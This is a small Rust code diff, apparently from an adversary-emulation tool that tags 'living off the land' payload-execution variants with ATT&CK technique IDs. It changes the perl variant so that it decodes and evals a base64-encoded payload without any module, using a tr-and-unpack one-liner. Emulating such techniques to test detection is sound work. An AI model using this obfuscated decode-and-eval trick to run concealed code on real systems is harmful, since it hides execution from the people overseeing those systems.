@@ -56,7 +56,10 @@ const VARIANTS: &[Variant] = &[
         named(Act::tool("python3", ["-c", &script])?, "python3")
     }),
     lolbin!("perl-payload", &["T1059"], "perl runs what it decodes", &[PERL], |_| {
-        let script = format!("use MIME::Base64;eval decode_base64('{ENCODED}')");
+        // Without a module: Debian's smallest perl has none.
+        let script = format!(
+            "$_='{ENCODED}';tr#A-Za-z0-9+/##cd;tr#A-Za-z0-9+/# -_#;eval unpack('u',chr(32+length()*3/4).$_)"
+        );
         named(Act::tool("perl", ["-e", &script])?, "perl")
     }),
     lolbin!("dd-payload", &["T1218"], "dd writes a payload", &[], |stage| {
